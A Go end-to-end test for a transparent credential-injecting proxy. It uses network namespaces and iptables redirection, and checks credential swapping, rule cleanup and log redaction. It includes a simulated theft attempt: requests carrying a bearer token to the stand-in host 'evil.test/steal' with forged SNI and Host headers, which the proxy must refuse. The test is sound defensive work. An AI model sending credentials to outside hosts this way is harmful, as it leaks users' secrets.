//go:build linux

package transparent_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"github.com/codeforge/codeforge/internal/testenv"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/codeforge/codeforge/apis"
	"github.com/codeforge/codeforge/proxy"
	"github.com/codeforge/codeforge/proxy/ca"
	"github.com/codeforge/codeforge/proxy/transparent"
)

// helperEnv carries the proxy-side configuration to the test binary when it
// is re-executed inside the proxy's network namespace.
const helperEnv = "CODEFORGE_TRANSPARENT_HELPER"

func TestMain(m *testing.M) {
	if cfg, ok := os.LookupEnv(helperEnv); ok {
		os.Exit(proxyHelper(cfg))
	}
	if spec, ok := os.LookupEnv(dropHelperEnv); ok {
		os.Exit(dropHelper(spec))
	}
	os.Exit(m.Run())
}

type helperConfig struct {
	APIsDir    string
	CADir      string
	UpstreamCA string            // PEM file the proxy trusts for upstreams
	Hosts      map[string]string // name -> address, the proxy's resolver
	Interface  string
	Chain      string
}

type helperReport struct {
	Log        []proxy.NetEntry
	ClearError string
}

// proxyHelper runs the proxy side of the end-to-end test. The parent starts
// it with "ip netns exec", so every thread, socket and iptables call of
// this process is inside the proxy namespace, including the proxy's own
// upstream dials. It applies the rules, serves until stdin closes, clears
// the rules and reports on stdout.
func proxyHelper(raw string) int {
	fail := func(format string, args ...any) int {
		fmt.Fprintf(os.Stderr, "helper: "+format+"\n", args...)
		return 2
	}
	var cfg helperConfig
	if err := json.Unmarshal([]byte(raw), &cfg); err != nil {
		return fail("config: %v", err)
	}
	set, err := apis.Load(cfg.APIsDir, func(string) (string, bool) { return "", false })
	if err != nil {
		return fail("load APIs: %v", err)
	}
	authority, err := ca.LoadOrCreate(cfg.CADir)
	if err != nil {
		return fail("CA: %v", err)
	}
	pem, err := os.ReadFile(cfg.UpstreamCA)
	if err != nil {
		return fail("upstream CA: %v", err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(pem)
	logger := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelDebug}))
	p, err := proxy.New(proxy.Options{
		APIs:   set,
		CA:     authority,
		Logger: logger,
		Resolver: func(_ context.Context, host string) ([]netip.Addr, error) {
			if a, ok := cfg.Hosts[host]; ok {
				return []netip.Addr{netip.MustParseAddr(a)}, nil
			}
			return nil, fmt.Errorf("test resolver: unknown host %q", host)
		},
		UpstreamRoots:         roots,
		AllowPrivateUpstreams: true,
	})
	if err != nil {
		return fail("proxy: %v", err)
	}
	ln, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		return fail("listen: %v", err)
	}
	rules := transparent.Rules{Chain: cfg.Chain, ProxyPort: ln.Addr().(*net.TCPAddr).Port, InInterface: cfg.Interface}
	if err := rules.Apply(); err != nil {
		return fail("apply: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	served := make(chan error, 1)
	go func() { served <- transparent.Serve(ctx, ln, p.ServeTransparentConn, logger) }()
	fmt.Println("READY")
	io.Copy(io.Discard, os.Stdin) // the parent closes stdin to stop us
	cancel()
	if err := <-served; err != nil {
		fmt.Fprintf(os.Stderr, "helper: serve: %v\n", err)
	}
	p.Close()
	rep := helperReport{Log: p.TransparentLog()}
	if err := rules.Clear(); err != nil {
		rep.ClearError = err.Error()
	}
	if err := json.NewEncoder(os.Stdout).Encode(rep); err != nil {
		return fail("report: %v", err)
	}
	return 0
}

// syncBuffer is a log sink safe for concurrent writes.
type syncBuffer = testenv.LogBuffer

// TestTransparentProxyEndToEnd: a client with no proxy settings, in its own
// namespace, calls https://api.test with a credential's name; iptables in
// the proxy's namespace redirects it to the proxy, which puts the real
// value in on the way to the API and the name back in the answer. When the
// proxy stops, its rules are gone.
func TestTransparentProxyEndToEnd(t *testing.T) {
	t.Parallel()
	const (
		token  = "TEST_API_TOKEN"
		secret = "sk_live_transparent_7f3a9c"
		chain  = "CF-E2E"
	)
	tp := newTopology(t)
	dir := t.TempDir()

	// The API: a TLS server in the proxy namespace on APIAddr, with a
	// certificate for api.test from an "upstream" CA only the proxy trusts.
	upstream, err := ca.LoadOrCreate(filepath.Join(dir, "upstream-ca"))
	if err != nil {
		t.Fatal(err)
	}
	apiCert, err := upstream.Leaf("api.test")
	if err != nil {
		t.Fatal(err)
	}
	var (
		mu   sync.Mutex
		seen []string // Authorization headers the API received
	)
	api := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Host+" "+r.Header.Get("Authorization"))
		mu.Unlock()
		w.Header().Set("X-From-API", "yes")
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"you_sent": r.Header.Get("Authorization")})
	})
	for _, port := range []string{"443", "80"} {
		ln := listenIn(t, tp.Proxy, net.JoinHostPort(tp.APIAddr, port))
		srv := &http.Server{Handler: api, ReadHeaderTimeout: 10 * time.Second,
			TLSConfig: &tls.Config{Certificates: []tls.Certificate{*apiCert}}}
		if port == "443" {
			go srv.ServeTLS(ln, "", "")
		} else {
			go srv.Serve(ln)
		}
		t.Cleanup(func() { srv.Close() })
	}

	apiDir := filepath.Join(dir, "apis", "testapi")
	if err := os.MkdirAll(apiDir, 0o755); err != nil {
		t.Fatal(err)
	}
	config := fmt.Sprintf(`{"description": "transparent e2e", "domains": ["api.test"], "credentials": {%q: %q}, "active": true}`, token, secret)
	if err := os.WriteFile(filepath.Join(apiDir, "config.json"), []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	proxyCA, err := ca.LoadOrCreate(filepath.Join(dir, "proxy-ca")) // the helper reuses it
	if err != nil {
		t.Fatal(err)
	}

	// The proxy: this test binary again, inside the proxy namespace.
	cfg, _ := json.Marshal(helperConfig{
		APIsDir:    filepath.Join(dir, "apis"),
		CADir:      filepath.Join(dir, "proxy-ca"),
		UpstreamCA: upstream.CertFile(),
		Hosts:      map[string]string{"api.test": tp.APIAddr, "evil.test": "10.78.0.9"},
		Interface:  tp.ProxyIf,
		Chain:      chain,
	})
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("ip", "netns", "exec", tp.Proxy, exe)
	cmd.Env = append(os.Environ(), helperEnv+"="+string(cfg))
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr syncBuffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waited := false
	t.Cleanup(func() {
		if !waited {
			stdin.Close()
			cmd.Process.Kill()
			cmd.Wait()
		}
	})
	out := bufio.NewReader(stdout)
	if line, err := out.ReadString('\n'); line != "READY\n" {
		t.Fatalf("proxy helper did not start: %q, %v\nstderr:\n%s", line, err, stderr.String())
	}
	if got := natRules(t, tp.Proxy); !strings.Contains(got, "-j "+chain) {
		t.Fatalf("rules not applied in the proxy namespace:\n%s", got)
	}

	// The client: no proxy settings, the proxy's CA trusted, names mapped
	// to the API's address (no DNS), every socket in the client namespace.
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(proxyCA.CertPEM())
	client := &http.Client{Transport: &http.Transport{
		Proxy:           nil,
		TLSClientConfig: &tls.Config{RootCAs: roots},
		DialContext: func(ctx context.Context, _, addr string) (net.Conn, error) {
			host, port, err := net.SplitHostPort(addr)
			if err != nil {
				return nil, err
			}
			if host != "api.test" && host != "evil.test" {
				return nil, fmt.Errorf("test client: unexpected host %q", host)
			}
			// evil.test is dialled at the API's address too: a forged name.
			return dialIn(ctx, tp.Client, net.JoinHostPort(tp.APIAddr, port))
		},
	}}
	t.Cleanup(client.CloseIdleConnections)

	req, _ := http.NewRequestWithContext(t.Context(), "GET", "https://api.test/v1/echo", nil)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := client.Do(req)
	if err != nil {
		t.Fatalf("request through the transparent proxy: %v\nproxy stderr:\n%s", err, stderr.String())
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("X-From-API") != "yes" {
		t.Fatalf("status %d, X-From-API %q; want 200 from the API\nbody: %s\nproxy stderr:\n%s", resp.StatusCode, resp.Header.Get("X-From-API"), body, stderr.String())
	}
	mu.Lock()
	gotSeen := append([]string(nil), seen...)
	mu.Unlock()
	if len(gotSeen) != 1 || gotSeen[0] != "api.test Bearer "+secret {
		t.Errorf("the API saw %q; want one request with the real credential", gotSeen)
	}
	if want := `{"you_sent":"Bearer ` + token + `"}`; strings.TrimSpace(string(body)) != want {
		t.Errorf("client got %s; want %s (the value swapped back to its name)", body, want)
	}
	if resp.TLS == nil || len(resp.TLS.PeerCertificates) == 0 || resp.TLS.PeerCertificates[0].Issuer.CommonName != proxyCA.Certificate().Subject.CommonName {
		t.Error("the client's TLS peer was not the proxy's minted certificate")
	}

	// A forged name: TLS to the API's address naming evil.test, which does
	// not resolve there. The proxy must refuse, and the API see nothing.
	req, _ = http.NewRequestWithContext(t.Context(), "GET", "https://evil.test/steal", nil)
	req.Header.Set("Authorization", "Bearer "+token)
	if resp, err := client.Do(req); err == nil {
		resp.Body.Close()
		t.Errorf("forged SNI evil.test at the API's address got %d; want the connection refused", resp.StatusCode)
	}
	// The same over plain HTTP with a forged Host header.
	req, _ = http.NewRequestWithContext(t.Context(), "GET", "http://evil.test/steal", nil)
	req.Header.Set("Authorization", "Bearer "+token)
	if resp, err := client.Do(req); err == nil {
		resp.Body.Close()
		if resp.StatusCode == 200 || resp.Header.Get("X-From-API") != "" {
			t.Errorf("forged Host evil.test over HTTP reached the API (status %d)", resp.StatusCode)
		}
	}
	mu.Lock()
	if len(seen) != 1 {
		t.Errorf("forged names reached the API: %q", seen)
	}
	mu.Unlock()

	// Stop the proxy: it clears its rules.
	client.CloseIdleConnections()
	stdin.Close()
	var rep helperReport
	if err := json.NewDecoder(out).Decode(&rep); err != nil {
		t.Fatalf("read helper report: %v\nstderr:\n%s", err, stderr.String())
	}
	werr := cmd.Wait()
	waited = true
	if werr != nil {
		t.Fatalf("proxy helper exited with %v\nstderr:\n%s", werr, stderr.String())
	}
	if rep.ClearError != "" {
		t.Errorf("Rules.Clear in the helper: %s", rep.ClearError)
	}
	if got := natRules(t, tp.Proxy); strings.Contains(got, chain) {
		t.Errorf("rules left in the proxy namespace after the proxy stopped:\n%s", got)
	}
	injected := false
	for _, e := range rep.Log {
		if strings.HasPrefix(e.Host, "api.test") && e.Status == 200 && e.Injected {
			injected = true
		}
	}
	if !injected {
		t.Errorf("transparent log %+v lacks the injected api.test request", rep.Log)
	}
	if strings.Contains(stderr.String(), secret) {
		t.Error("the proxy's log contains the secret value")
	}
}
